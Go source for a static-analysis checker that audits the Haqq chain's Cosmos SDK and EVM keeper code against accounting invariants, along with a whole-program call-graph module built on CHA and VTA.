		r.Count("R6 by-value keeper copies checked", nCopies)
	}

	// sibling clauses decided by the same rule code as C14 and C02
	r.Rule("R8", "ERR.state-errors-not-dropped: in consensus scope the error returned by a state-changing keeper call — a method of a bank/staking/distribution/authz/account keeper (concrete or through the module's expected-keeper interface) or of a message server, other than Get*/Has*/Is*/Iterate* readers — is never discarded (unused result, or assigned to the blank identifier): a failed coin movement that is ignored lets the caller go on as if the coins had moved, which is how module accounts and their records drift apart")
	{
		sc := scopesOf(r)
		nCalls, nBad := 0, 0
		for _, fn := range sc.S.HaqqFuncs() {
			if isTestSupport(P, fn) || isGeneratedFile(P.FileOf(fnPos(fn))) || strings.Contains(fnPkgPath(fn), "/client/") {
				continue
			}
			eachInstr(fn, func(in ssa.Instruction) {
				c, ok := in.(ssa.CallInstruction)
				if !ok {
					return
				}
				if _, isDefer := in.(*ssa.Defer); isDefer {
					return
				}
				ci := callInfo(c)
				if ci.Obj == nil || ci.Recv == "" {
					return
				}
				isKeeperLike := strings.HasSuffix(ci.Recv, "Keeper") || ci.Recv == "MsgServer" || ci.Recv == "msgServer" || ci.Recv == "BaseKeeper"
				if !isKeeperLike {
					return
				}
				n := ci.Name
				if strings.HasPrefix(n, "Get") || strings.HasPrefix(n, "Has") || strings.HasPrefix(n, "Is") || strings.HasPrefix(n, "Iterate") || strings.HasPrefix(n, "Query") {
					return
				}
				sig := c.Common().Signature()
				if sig == nil || sig.Results().Len() == 0 || !isErrorType(sig.Results().At(sig.Results().Len()-1).Type()) {
					return
				}
				nCalls++
				v := c.Value()
				used := false
				if v != nil && v.Referrers() != nil {
					if sig.Results().Len() == 1 {
						used = len(*v.Referrers()) > 0
					} else {
						for _, ref := range *v.Referrers() {
							if ex, ok := ref.(*ssa.Extract); ok && ex.Index == sig.Results().Len()-1 && ex.Referrers() != nil && len(*ex.Referrers()) > 0 {
								used = true
							}
						}
					}
				}
				if !used {
					nBad++
					r.Bad("R8", fmt.Sprintf("%s#drops-error-of-%s.%s", fnID(fn), ci.Recv, ci.Name), P.Pos(instrPos(in)), "the error returned by "+ci.String()+" is discarded in consensus-reachable code", sc.S.Chain(fn)...)
				}
			})
		}
		r.Count("R8 error-returning state-changing keeper calls in consensus scope", nCalls)
		if nBad == 0 {
			r.OK("R8", "scope-S", "", fmt.Sprintf("%d error-returning state-changing keeper calls in consensus scope, none discards its error", nCalls))
		}
		r.Floor("R8", "error-returning state-changing keeper calls in consensus scope", nCalls, 100)
	}
	r.Rule("R9", "PATH.send-wrapper-rejects-blocked-recipients: Haqq's bank message server replaces the SDK's MsgSend handler, so it must repeat the SDK's recipient check: every success exit of msgServer.Send is preceded by a BlockedAddr(recipient) test whose true edge fails — in Send itself, or in a helper all of whose success paths make the test (whatever the erc20 switch says). Module accounts (staking pools, distribution) cannot be credited by a plain send")
	if sd, ok := P.FnOK("(x/bank/keeper.msgServer).Send"); ok {
		isBlockedCall := func(ci CallInfo) bool { return ci.Name == "BlockedAddr" }
		// helpers of the package that test the recipient on every success path
		always := map[*ssa.Function]bool{}
		for _, fn := range P.Funcs {
			if fnPkgPath(fn) != fnPkgPath(sd) || fn == sd || fn.Blocks == nil {
				continue
			}
			if len(findCalls(fn, isBlockedCall)) == 0 {
				continue
			}
			if w := (PathQuery{Fn: fn, Block: isCallMatching(isBlockedCall), Target: isSuccessExit}).Search(); w == nil {
				always[fn] = true
			}
		}
		isCheck := func(in ssa.Instruction) bool {
			c, ok := in.(ssa.CallInstruction)
			if !ok {
				return false
			}
			ci := callInfo(c)
			return isBlockedCall(ci) || (ci.Static != nil && always[ci.Static])
		}
		w := PathQuery{Fn: sd, Block: isCheck, Target: isSuccessExit}.Search()
		// the true edge of a BlockedAddr test reaches no success exit (in the function that makes it)
		failOK := true
		for _, fn := range append([]*ssa.Function{sd}, keysOfFn(always)...) {
			t, _ := guardPassEdges(fn, func(cond ssa.Value) (bool, bool) {
				c, ok := cond.(*ssa.Call)
				return true, ok && callInfo(c).Name == "BlockedAddr"
			})
			for _, e := range t {
				if w2 := (PathQuery{Fn: fn, StartBlock: e.From.Succs[e.Succ], Target: isSuccessExit}).Search(); w2 != nil {
					failOK = false
				}
			}
		}
		r.Check(w == nil && failOK, "R9", fnID(sd)+"#blocked-recipient-rejected", P.Pos(fnPos(sd)), "every success path tests BlockedAddr(to) and a blocked recipient fails",
			"the bank MsgSend wrapper can succeed without having tested the recipient against the blocked addresses (the test sits behind an early return or only on some branch): a plain send credits a module account, and the module's records no longer match its balance", P.witness(w)...)
	} else {
		r.Bad("R9", "anchor/x/bank msgServer.Send", "", "not found")
	}
	r.Rule("R7", "see C12 R5 (same rule code): every module account of maccPerms is a blocked address — the distribution, staking-pool and gov accounts cannot receive plain transfers, which their invariants (module balance = recorded amounts) need")
	checkBlockedAddrs(r, "R7", "distribution")
	r.Import("R4/C14.", []string{"R2"}, runC14)
	r.Import("R5/C02.", []string{"R3"}, runC02)
	r.Rule("R13", "FLOW.pool-debits-carry-what-unbond-reports: the staking module-accounts invariant equates the bonded / not-bonded pool balances with the validators' tokens and the unbonding entries. Haqq code that takes coins out of a staking pool by name (an upgrade handler that undelegates on an account's behalf: bonded → not-bonded → delegator) moves exactly the amount the staking keeper's Unbond returned for the shares it removed — the amount that was *asked for* differs from it by one unit as soon as the validator was ever slashed (shares are no longer worth one token each), and the pool is then one unit off the validator's tokens for good")
	{
		nPool := 0
		for _, fn := range P.Funcs {
			if isTestSupport(P, fn) || fn.Synthetic != "" || !isHaqqPath(fnPkgPath(fn)) || strings.Contains(fnPkgPath(fn), "/testutil") {
				continue
			}
			idx := 0
			eachCall(fn, func(ci CallInfo) {
				if !(ci.Name == "SendCoinsFromModuleToModule" || ci.Name == "SendCoinsFromModuleToAccount" || ci.Name == "UndelegateCoinsFromModuleToAccount") {
					return
				}
				a := ci.Instr.Common().Args
				fromPool := false
				var coins ssa.Value
				for i, x := range a {
					if s, ok := constString(x); ok && (s == "bonded_tokens_pool" || s == "not_bonded_tokens_pool") && !fromPool && i <= 2 {
						// the sender is the first string argument
						first := true
						for _, y := range a[:i] {
							if _, isS := constString(y); isS {
								first = false
							}
						}
						if first {
							fromPool = true
						}
					}
					if namedName(x.Type()) == "Coins" {
						coins = x
					}
				}
				if !fromPool || coins == nil {
					return
				}
				nPool++
				idx++
				okAmt := backSlice(coins).Any(func(v ssa.Value) bool {
					ex, ok := v.(*ssa.Extract)
					if !ok || ex.Index != 0 {
						return false
					}
					c, ok := ex.Tuple.(*ssa.Call)
					return ok && callInfo(c).Name == "Unbond"
				})
				r.Check(okAmt, "R13", fmt.Sprintf("%s#pool-debit-%d-is-the-unbonded-amount", fnID(outermost(fn)), idx), P.Pos(instrPos(ci.Instr)), "the coins derive from Unbond's result",
					"coins are taken out of a staking pool with an amount that does not derive from what Unbond returned for the removed shares: on a validator that was slashed the requested amount and the unbonded amount differ by a unit, and the pool no longer matches the validators' tokens (staking module-accounts invariant)")
			})
		}
		r.Count("R13 debits of a staking pool by name in Haqq code", nPool)
		r.Floor("R13", "debits of a staking pool by name in Haqq code", nPool, 2)
	}
	r.Rule("R14", "STALE.fee-pool-read-modify-write-is-contiguous: the community pool is one record that many keeper calls rewrite (reward withdrawals book their truncation remainders to it, commission withdrawals, hooks). Wherever Haqq code stores a fee pool it read before (GetFeePool … SetFeePool), no call that can write state — a keeper method other than a getter, an iteration with a callback, a hook — lies on a path between that read and the write: otherwise the write puts back a copy that misses what those calls added, and the distribution account holds coins nothing accounts for (the ModuleAccount invariant of x/distribution; InitGenesis of an exported state panics on the mismatch)")
	{
		nRMW := 0
		for _, fn := range P.Funcs {
			if isTestSupport(P, fn) || fn.Synthetic != "" || !isHaqqPath(fnPkgPath(fn)) || strings.Contains(fnPkgPath(fn), "/testutil") {
				continue
			}
			idx := 0
			eachCall(fn, func(ci CallInfo) {
				if ci.Name != "SetFeePool" {
					return
				}
				set := ci.Instr
				var val ssa.Value
				for _, a := range set.Common().Args {
					if namedName(a.Type()) == "FeePool" {
						val = a
					}
				}
				if val == nil {
					return
				}
				nRMW++
				idx++
				inst := fmt.Sprintf("%s#fee-pool-write-%d", fnID(outermost(fn)), idx)
				var gets []ssa.CallInstruction
				backSlice(val).Any(func(v ssa.Value) bool {
					if c, ok := v.(*ssa.Call); ok && callInfo(c).Name == "GetFeePool" {
						gets = append(gets, c)
					}
					return false
				})
				if len(gets) == 0 {
					r.Bad("R14", inst, P.Pos(instrPos(set)), "a fee pool is stored whose value does not come from a GetFeePool read that the analysis can see (built from scratch, or read in another function): whatever the record held is overwritten")
					return
				}
				bad := ""
				for _, g := range gets {
					if g.Parent() != set.Parent() {
						bad = "the read at " + P.Pos(instrPos(g)) + " is made in another function (" + fnID(g.Parent()) + ") than the write"
						continue
					}
					isG := func(in ssa.Instruction) bool { return in == ssa.Instruction(g) }
					eachCall(set.Parent(), func(e CallInfo) {
						if e.Instr == g || e.Instr == set || bad != "" {
							return
						}
						mayWrite := isCosmosEffect(e) || e.Name == "Hooks"
						for _, a := range e.Instr.Common().Args {
							if _, ok := a.(*ssa.MakeClosure); ok {
								mayWrite = true
							}
						}
						if !mayWrite || !instrMayPrecede(g, e.Instr) {
							return
						}
						if w := (PathQuery{Fn: set.Parent(), Start: e.Instr, Block: isG, Target: func(in ssa.Instruction) bool { return in == ssa.Instruction(set) }}).Search(); w != nil {
							bad = e.String() + " at " + P.Pos(instrPos(e.Instr)) + " can run between the read and the write"
						}
					})
				}
				r.Check(bad == "", "R14", inst, P.Pos(instrPos(set)), "read, change and write with no state-writing call in between",
					"a fee pool read earlier is written back although "+bad+": what that call added to the community pool (truncation remainders of withdrawn rewards, …) is overwritten — coins stay in the distribution account that no record accounts for")
			})
		}
		r.Floor("R14", "fee-pool writes in Haqq code", nRMW, 1)
	}
	r.Rule("R15", "PATH.selfdestruct-spares-delegators: a contract can be a staking delegator (through the staking precompile). Staking pays a matured unbonding back with bank.UndelegateCoins, which debits the not-bonded pool first and then fails for a delegator without an auth account — in the end blocker nothing rolls the debit back: the coins are gone, bank total-supply and staking module-accounts break. The EVM keeper's DeleteAccount therefore reaches RemoveAccount only after it asked the staking keeper for the account's delegations and unbonding delegations, over the edges on which there are none")
	if da, ok := P.FnOK("(*x/evm/keeper.Keeper).DeleteAccount"); ok {
		isRemove := isCallMatching(func(ci CallInfo) bool { return ci.Name == "RemoveAccount" })
		bad := ""
		var wit []ssa.Instruction
		for _, name := range []string{"GetUnbondingDelegations", "GetDelegatorDelegations"} {
			isAsk := isCallMatching(func(ci CallInfo) bool { return ci.Name == name })
			if w := (PathQuery{Fn: da, Block: isAsk, Target: isRemove}).Search(); w != nil {
				bad, wit = name+" is not consulted on a path to RemoveAccount", w
				continue
			}
			teeth := false
			for _, b := range da.Blocks {
				iff, isIf := lastIf(b)
				if !isIf || !backSlice(iff.Cond).HasCall(func(g CallInfo) bool { return g.Name == name }) {
					continue
				}
				for _, sc := range b.Succs {
					if (PathQuery{Fn: da, StartBlock: sc, Target: isRemove}).Search() == nil {
						teeth = true
					}
				}
			}
			if !teeth && bad == "" {
				bad = "the result of " + name + " decides nothing (no branch on it keeps RemoveAccount unreachable)"
			}
		}
		r.Check(bad == "", "R15", fnID(da)+"#delegators-are-not-removed", P.Pos(fnPos(da)), "RemoveAccount only after both staking lookups, each with a refusing branch",
			"SELFDESTRUCT can remove the auth account of a contract that still has delegations or unbonding delegations ("+bad+"): when its unbonding matures the not-bonded pool is debited and nobody is credited", P.witness(wit)...)
	} else {
		r.Bad("R15", "anchor/DeleteAccount", "", "not found")
	}
	r.Rule("R11", "PATH.multisend-rejects-every-blocked-output + SHAPE.staking-pools-named-by-constants: (a) the bank MsgMultiSend wrapper tests BlockedAddr for the address of every output in a loop of its own — each iteration passes the test, its true edge reaches only failure exits, and InputOutputCoins is reachable only after the loop; (b) wherever Haqq code names a staking pool account to the bank keeper (SendCoinsFromModuleToModule, UndelegateCoinsFromModuleToAccount, … in upgrade handlers) the module name is a constant at that call site, not a value chosen at run time from the validator's status: tokens of Unbonding validators sit in the not-bonded pool, and a pool picked by IsUnbonded()/IsBonded() shortcuts debits the wrong one")
	if ms, ok := P.FnOK("(x/bank/keeper.msgServer).MultiSend"); ok {
		okLoop := false
		var wit []string
		for _, h := range ms.Blocks {
			if !isLoopHeader(h) {
				continue
			}
			body := loopBody(h)
			overOutputs := false
			for b := range body {
				for _, in := range b.Instrs {
					if ia, ok := in.(*ssa.IndexAddr); ok && backSlice(ia.X).HasField("MsgMultiSend", "Outputs") {
						overOutputs = true
					}
				}
			}
			if !overOutputs {
				continue
			}
			isBlk := isCallMatching(func(ci CallInfo) bool {
				return ci.Name == "BlockedAddr" && backSlice(ci.Instr.Common().Args...).HasField("Output", "Address")
			})
			skip := false
			for _, sc := range h.Succs {
				if body[sc] && sc != h {
					if w := (PathQuery{Fn: ms, StartBlock: sc, Block: isBlk, Target: func(in ssa.Instruction) bool { return in == h.Instrs[0] }}).Search(); w != nil {
						skip = true
						wit = P.witness(w)
					}
				}
			}
			trueEdges := boolCallEdges(ms, "BlockedAddr")
			failOK := len(trueEdges) > 0
			for _, e := range trueEdges {
				if w := (PathQuery{Fn: ms, StartBlock: e.From.Succs[e.Succ], Target: isSuccessExit}).Search(); w != nil {
					failOK = false
					wit = P.witness(w)
				}
				if w := (PathQuery{Fn: ms, StartBlock: e.From.Succs[e.Succ], Target: func(in ssa.Instruction) bool { return in == h.Instrs[0] }}).Search(); w != nil {
					failOK = false
				}
			}
			// the transfer only after the loop: not reachable from inside the body without passing the header's exit
			isIO := isCallMatching(func(ci CallInfo) bool { return ci.Name == "InputOutputCoins" })
			pre := PathQuery{Fn: ms, Block: func(in ssa.Instruction) bool { return in == h.Instrs[0] }, Target: isIO}.Search()
			okLoop = !skip && failOK && pre == nil
		}
		r.Check(okLoop, "R11", fnID(ms)+"#every-output-tested", P.Pos(fnPos(ms)), "loop over msg.Outputs: BlockedAddr on every output, blocked ⇒ failure, transfer after the loop",
			"the bank MsgMultiSend wrapper does not test every output address against the blocked addresses in a loop of its own (a positional shortcut, an index test that misses position 0, or a test that does not fail the message): a module account can be credited by a plain multi-send, and its bookkeeping no longer matches its balance", wit...)
	} else {
		r.Bad("R11", "anchor/x/bank msgServer.MultiSend", "", "not found")
	}
	{
		pools := map[string]bool{"bonded_tokens_pool": true, "not_bonded_tokens_pool": true}
		nPool := 0
		perFn := map[string]int{}
		for _, fn := range P.Funcs {
			if !isHaqqPath(fnPkgPath(fn)) || isTestSupport(P, fn) || fn.Synthetic != "" {
				continue
			}
			eachCall(fn, func(ci CallInfo) {
				if !(strings.HasPrefix(ci.Name, "SendCoinsFromModule") || strings.HasPrefix(ci.Name, "UndelegateCoinsFromModule") || strings.HasPrefix(ci.Name, "DelegateCoinsFromAccountToModule") || ci.Name == "SendCoinsFromAccountToModule") {
					return
				}
				for _, a := range ci.Instr.Common().Args {
					bt, ok := a.Type().Underlying().(*types.Basic)
					if !ok || bt.Kind() != types.String {
						continue
					}
					names := map[string]bool{}
					backSlice(a).Any(func(v ssa.Value) bool {
						if sv, ok := constString(v); ok && pools[sv] {
							names[sv] = true
						}
						return false
					})
					if len(names) == 0 {
						continue
					}
					nPool++
					perFn[fnID(fn)+"#"+ci.Name]++
					_, isConst := a.(*ssa.Const)
					r.Check(isConst, "R11", fmt.Sprintf("%s#%s/pool-is-constant-%d", fnID(fn), ci.Name, perFn[fnID(fn)+"#"+ci.Name]), P.Pos(instrPos(ci.Instr)), "staking pool named by a constant",
						"the staking pool a bank move names is chosen at run time (one of "+strings.Join(sortedKeys(names), ", ")+" by some status test): for a validator in the state the test does not distinguish (Unbonding) the wrong pool is debited and the pools no longer equal the bonded / not-bonded token totals")
				}
			})
		}
		r.Floor("R11", "bank moves naming a staking pool in Haqq code", nPool, 3)
	}
	r.Rule("R12", "PATH.evm-never-burns-from-a-blocked-address: the EVM keeper's SetBalance reconciles the bank balance with the balance cached in the StateDB. Raising a blocked (module / precompile) address's balance is refused inside the bank keeper (SendCoinsFromModuleToAccount); lowering it must be refused too — the burn branch (SendCoinsFromAccountToModule + BurnCoins) is reachable only over the failing edge of BlockedAddr(addr). A staking pool's cached balance goes stale when a precompile delegates behind the StateDB's back; one wei sent to the pool address afterwards makes the final Commit 'reconcile' the pool down to the stale value — coins that back delegations are burned and staking/module-accounts breaks")
	if sb, ok := P.FnOK("(*x/evm/keeper.Keeper).SetBalance"); ok {
		notBlocked, _ := guardPassEdges(sb, func(cond ssa.Value) (bool, bool) {
			c, ok := cond.(*ssa.Call)
			return false, ok && callInfo(c).Name == "BlockedAddr"
		})
		isBurn := isCallMatching(func(ci CallInfo) bool { return ci.Name == "BurnCoins" || ci.Name == "SendCoinsFromAccountToModule" })
		// the mint branch too: MintCoins succeeds, the send to a blocked address then fails — and the minted coins stay
		// in the evm module account when the failure is an inner call frame's (the flush runs on the live context)
		isMint := isCallMatching(func(ci CallInfo) bool { return ci.Name == "MintCoins" })
		wm := PathQuery{Fn: sb, Target: isMint, DelEdge: edgeSet(notBlocked)}.Search()
		r.Check(wm == nil && len(notBlocked) > 0, "R12", fnID(sb)+"#mint-branch-refuses-blocked", P.Pos(fnPos(sb)), "mint reachable only where BlockedAddr(addr) is false",
			"the EVM keeper mints into its module account before it finds out that the recipient is a blocked address: value attached to a precompile call (the precompile address is credited in the StateDB, the flush at the start of Run writes it) leaves the minted coins in the evm module account when the calling contract swallows the failed call — the supply grows by msg.value, repeatably", P.witness(wm)...)
		w := PathQuery{Fn: sb, Target: isBurn, DelEdge: edgeSet(notBlocked)}.Search()
		r.Check(w == nil && len(notBlocked) > 0, "R12", fnID(sb)+"#burn-branch-refuses-blocked", P.Pos(fnPos(sb)), "burn reachable only where BlockedAddr(addr) is false",
			"the EVM keeper lowers the bank balance of any address to the StateDB's cached value, module accounts included: a stale cached balance of the bonded / not-bonded pool (or the distribution account) is written back and the difference burned — the module invariants no longer hold", P.witness(w)...)
	} else {
		r.Bad("R12", "anchor/evm Keeper.SetBalance", "", "not found")
	}
	r.Rule("R10", "see C05 R2 and R6 (imported): an Ethereum transaction — a direct call of the staking or distribution precompile included — runs on a cache context that is written only when the execution succeeded, and an out-of-gas panic inside a precompile is a failed execution: the SDK's staking and distribution operations are not atomic on their own (pool transfer, then validator update, then reward-period bookkeeping), so a failed call that is not rolled back leaves exactly the half-done state the module invariants forbid")
	r.Import("R10/C05.", []string{"R2", "R6", "R9"}, runC05)
}

func keysOfFn(m map[*ssa.Function]bool) []*ssa.Function {
	var out []*ssa.Function
	for f := range m {
		out = append(out, f)
	}
	sort.Slice(out, func(i, j int) bool { return fnID(out[i]) < fnID(out[j]) })
	return out
}
