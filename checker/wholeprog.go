package main

// Whole-program mode "W" (thorough tier only): Haqq AND every dependency with syntax and SSA bodies
// (packages.LoadAllSyntax), class-hierarchy call graph refined by variable-type analysis (VTA).
// It re-derives, through cosmos-sdk / ibc-go themselves, which calls made by precompile handlers can
// reach the bank keeper's balance writer, and compares that with the frozen effects table and the
// "read-only by name" filter that the quick rules (C02 R4, C04, C16) rely on.
//
// Cost measured here: load+SSA 11 s, CHA 5 s, VTA 19 s, 5.3 GB. CHA alone is useless for this
// question (every SDK function "reaches" the bank through net/http → grpc-gateway → msg servers);
// VTA separates them (authz SaveGrant: unreachable; staking Delegate: 5 calls away).

import (
	"fmt"
	"go/token"
	"go/types"
	"os"
	"sort"
	"strings"

	"golang.org/x/tools/go/callgraph"
	"golang.org/x/tools/go/callgraph/cha"
	"golang.org/x/tools/go/callgraph/vta"
	"golang.org/x/tools/go/packages"
	"golang.org/x/tools/go/ssa"
	"golang.org/x/tools/go/ssa/ssautil"
)

type WProg struct {
	Fset   *token.FileSet
	SSA    *ssa.Program
	CG     *callgraph.Graph
	Funcs  map[*ssa.Function]bool
	byName map[string]*ssa.Function
	// call instructions of Haqq functions by "file:line:col" of the call's position
	siteAt map[string][]ssa.CallInstruction
	NPkgs  int
}

var wMemo = map[string]*WProg{}

func loadWhole(repo, tags string) (*WProg, error) {
	if w, ok := wMemo[repo+"|"+tags]; ok {
		return w, nil
	}
	env := append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local", "GOWORK=off")
	cfg := &packages.Config{Mode: packages.LoadAllSyntax, Dir: repo, Env: env}
	if tags != "" {
		cfg.BuildFlags = []string{"-tags=" + tags}
	}
	pkgs, err := packages.Load(cfg, "./...")
	if err != nil {
		return nil, err
	}
	n := 0
	var errs []string
	packages.Visit(pkgs, nil, func(p *packages.Package) {
		n++
		if isHaqqPath(p.PkgPath) {
			for _, e := range p.Errors {
				errs = append(errs, e.Error())
			}
		}
	})
	if len(errs) > 0 {
		return nil, fmt.Errorf("type errors in whole-program load: %s", strings.Join(errs[:min(len(errs), 5)], "; "))
	}
	if n < 800 {
		return nil, fmt.Errorf("whole-program load implausibly small: %d packages", n)
	}
	prog, _ := ssautil.AllPackages(pkgs, ssa.InstantiateGenerics)
	prog.Build()
	all := ssautil.AllFunctions(prog)
	cg := vta.CallGraph(all, cha.CallGraph(prog))
	w := &WProg{Fset: prog.Fset, SSA: prog, CG: cg, Funcs: all, byName: map[string]*ssa.Function{}, siteAt: map[string][]ssa.CallInstruction{}, NPkgs: n}
	for f := range all {
		w.byName[f.String()] = f
		if f.Blocks == nil || !isHaqqPath(fnPkgPath(f)) {
			continue
		}
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				if c, ok := in.(ssa.CallInstruction); ok {
					if p := c.Common().Pos(); p.IsValid() {
						w.siteAt[w.posKey(prog.Fset, p, repo)] = append(w.siteAt[w.posKey(prog.Fset, p, repo)], c)
					}
				}
			}
		}
	}
	wMemo[repo+"|"+tags] = w
	return w, nil
}

func (w *WProg) posKey(fs *token.FileSet, p token.Pos, repo string) string {
	q := fs.Position(p)
	return fmt.Sprintf("%s:%d:%d", strings.TrimPrefix(q.Filename, repo+"/"), q.Line, q.Column)
}

// calleesAt: VTA-resolved callees of the call instruction of the whole program that sits at the same
// source position as c (a call of the quick program).
func (w *WProg) calleesAt(P *Prog, c ssa.CallInstruction) ([]*ssa.Function, bool) {
	p := c.Common().Pos()
	if !p.IsValid() {
		return nil, false
	}
	sites := w.siteAt[w.posKey(P.Fset, p, P.RepoDir)]
	if len(sites) == 0 {
		return nil, false
	}
	seen := map[*ssa.Function]bool{}
	var out []*ssa.Function
	for _, s := range sites {
		n := w.CG.Nodes[s.Parent()]
		if n == nil {
			continue
		}
		for _, e := range n.Out {
			if e.Site == s && !seen[e.Callee.Func] {
				seen[e.Callee.Func] = true
				out = append(out, e.Callee.Func)
			}
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].String() < out[j].String() })
	return out, true
}

func (w *WProg) sitesAt(P *Prog, c ssa.CallInstruction) ([]ssa.CallInstruction, bool) {
	p := c.Common().Pos()
	if !p.IsValid() {
		return nil, false
	}
	sites := w.siteAt[w.posKey(P.Fset, p, P.RepoDir)]
	return sites, len(sites) > 0
}

// reachers: every function from which some target is reachable in the call graph (reverse BFS).
func (w *WProg) reachers(targets []*ssa.Function) map[*ssa.Function]bool {
	R := map[*ssa.Function]bool{}
	var q []*ssa.Function
	for _, t := range targets {
		R[t] = true
		q = append(q, t)
	}
	for len(q) > 0 {
		f := q[0]
		q = q[1:]
		n := w.CG.Nodes[f]
		if n == nil {
			continue
		}
		for _, e := range n.In {
			c := e.Caller.Func
			if !R[c] {
				R[c] = true
				q = append(q, c)
			}
		}
	}
	return R
}

// chain: a shortest call chain from src to a target.
func (w *WProg) chain(src *ssa.Function, isTarget map[*ssa.Function]bool) []string {
	prev := map[*ssa.Function]*ssa.Function{src: nil}
	q := []*ssa.Function{src}
	for len(q) > 0 {
		f := q[0]
		q = q[1:]
		if isTarget[f] {
			var out []string
			for x := f; x != nil; x = prev[x] {
				out = append([]string{x.String()}, out...)
			}
			return out
		}
		n := w.CG.Nodes[f]
		if n == nil {
			continue
		}
		for _, e := range n.Out {
			c := e.Callee.Func
			if _, ok := prev[c]; !ok {
				prev[c] = f
				q = append(q, c)
			}
		}
	}
	return nil
}

const sdkBankKeeper = "github.com/cosmos/cosmos-sdk/x/bank/keeper"

// bankBalanceWriters: the functions of the SDK bank keeper that write an account balance into the store,
// derived structurally: functions of the package that obtain the per-account balance store
// (getAccountStore) and call Set or Delete on a store. Today: setBalance and initBalances.
func (w *WProg) bankBalanceWriters() (targets []*ssa.Function, problems []string) {
	for f := range w.Funcs {
		if f.Blocks == nil || fnPkgPath(f) != sdkBankKeeper {
			continue
		}
		opens, writes := false, false
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				c, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				ci := callInfo(c)
				if ci.Name == "getAccountStore" {
					opens = true
				}
				if (ci.Name == "Set" || ci.Name == "Delete") && (ci.Recv == "Store" || ci.Recv == "KVStore") {
					writes = true
				}
			}
		}
		if opens && writes {
			targets = append(targets, f)
		}
	}
	sort.Slice(targets, func(i, j int) bool { return targets[i].String() < targets[j].String() })
	has := false
	for _, t := range targets {
		if t.Name() == "setBalance" {
			has = true
		}
	}
	if !has {
		problems = append(problems, "the bank keeper's setBalance was not recognised as a balance writer (getAccountStore + Set/Delete): the whole-program rule's target changed")
	}
	return targets, problems
}

// ---- callback-sensitive forward search ----
//
// VTA resolves a call of a func-typed parameter (IterateDelegations' fn) to every closure that flows
// into that parameter anywhere in the program, which conflates a query's counting closure with the
// ante handler's reward-claiming closure. The search below binds func-typed parameters per call site:
// entering callee c from site s, each func-typed parameter of c whose argument at s is a function
// constant, a closure, or a bound parameter of the caller is bound to exactly those functions; a call
// of a bound parameter goes only to its binding. Everything else falls back to VTA's callee set, so the
// search stays an over-approximation of the real calls.

type wBind map[int][]*ssa.Function

func (b wBind) sig() string {
	if len(b) == 0 {
		return ""
	}
	var ks []int
	for k := range b {
		ks = append(ks, k)
	}
	sort.Ints(ks)
	var sb strings.Builder
	for _, k := range ks {
		fmt.Fprintf(&sb, "%d=", k)
		for _, f := range b[k] {
			sb.WriteString(f.String())
			sb.WriteByte(',')
		}
		sb.WriteByte(';')
	}
	return sb.String()
}

func paramIndex(fn *ssa.Function, p *ssa.Parameter) int {
	for i, q := range fn.Params {
		if q == p {
			return i
		}
	}
	return -1
}

func isFuncTyped(v ssa.Value) bool {
	_, ok := v.Type().Underlying().(*types.Signature)
	return ok
}

// funcValues: the concrete functions a func-typed value denotes, when that is evident at the site.
func funcValues(fn *ssa.Function, bind wBind, v ssa.Value) ([]*ssa.Function, bool) {
	for {
		if ct, ok := v.(*ssa.ChangeType); ok {
			v = ct.X
			continue
		}
		break
	}
	switch x := v.(type) {
	case *ssa.Function:
		return []*ssa.Function{x}, true
	case *ssa.MakeClosure:
		if f, ok := x.Fn.(*ssa.Function); ok {
			return []*ssa.Function{f}, true
		}
	case *ssa.Parameter:
		if i := paramIndex(fn, x); i >= 0 {
			if fs, ok := bind[i]; ok {
				return fs, true
			}
		}
	}
	return nil, false
}

func (w *WProg) siteCallees(s ssa.CallInstruction) []*ssa.Function {
	n := w.CG.Nodes[s.Parent()]
	if n == nil {
		return nil
	}
	var out []*ssa.Function
	for _, e := range n.Out {
		if e.Site == s {
			out = append(out, e.Callee.Func)
		}
	}
	return out
}

// reachCtx: a call chain from (fn, bind) to a target, or nil. R = context-free reachers (prefilter).
func (w *WProg) reachCtx(fn *ssa.Function, bind wBind, R, isT map[*ssa.Function]bool, visited map[string]bool) []string {
	if isT[fn] {
		return []string{fn.String()}
	}
	key := fn.String() + "|" + bind.sig()
	if visited[key] || fn.Blocks == nil {
		return nil
	}
	visited[key] = true
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			s, ok := in.(ssa.CallInstruction)
			if !ok {
				continue
			}
			cc := s.Common()
			var callees []*ssa.Function
			bound := false
			if !cc.IsInvoke() {
				if p, ok := cc.Value.(*ssa.Parameter); ok {
					if i := paramIndex(fn, p); i >= 0 {
						if fs, ok := bind[i]; ok {
							callees, bound = fs, true
						}
					}
				}
			}
			if !bound {
				callees = w.siteCallees(s)
			}
			for _, c := range callees {
				if !R[c] && !isT[c] {
					continue
				}
				nb := wBind{}
				params := c.Params
				if cc.IsInvoke() && len(params) > 0 {
					params = params[1:]
				}
				if len(params) == len(cc.Args) {
					off := len(c.Params) - len(params)
					for i, a := range cc.Args {
						if !isFuncTyped(a) {
							continue
						}
						if fs, ok := funcValues(fn, bind, a); ok {
							nb[i+off] = fs
						}
					}
				}
				if ch := w.reachCtx(c, nb, R, isT, visited); ch != nil {
					return append([]string{fn.String()}, ch...)
				}
			}
		}
	}
	return nil
}

// reachFromSite: chain from the call site s (a call instruction of the whole program, inside fn) to a target.
func (w *WProg) reachFromSite(s ssa.CallInstruction, R, isT map[*ssa.Function]bool) []string {
	fn := s.Parent()
	cc := s.Common()
	for _, c := range w.siteCallees(s) {
		if !R[c] && !isT[c] {
			continue
		}
		nb := wBind{}
		params := c.Params
		if cc.IsInvoke() && len(params) > 0 {
			params = params[1:]
		}
		if len(params) == len(cc.Args) {
			off := len(c.Params) - len(params)
			for i, a := range cc.Args {
				if isFuncTyped(a) {
					if fs, ok := funcValues(fn, nil, a); ok {
						nb[i+off] = fs
					}
				}
			}
		}
		if ch := w.reachCtx(c, nb, R, isT, map[string]bool{}); ch != nil {
			return ch
		}
	}
	return nil
}

// extSite: a call made by a precompile handler (directly or through helpers of the precompile packages)
// whose callee lies outside the precompile packages.
type extSite struct {
	Call ssa.CallInstruction
	Info CallInfo
	Via  []string
}

func externalSites(fn *ssa.Function, depth int, seen map[*ssa.Function]bool) []extSite {
	var out []extSite
	if fn == nil || fn.Blocks == nil || seen[fn] {
		return nil
	}
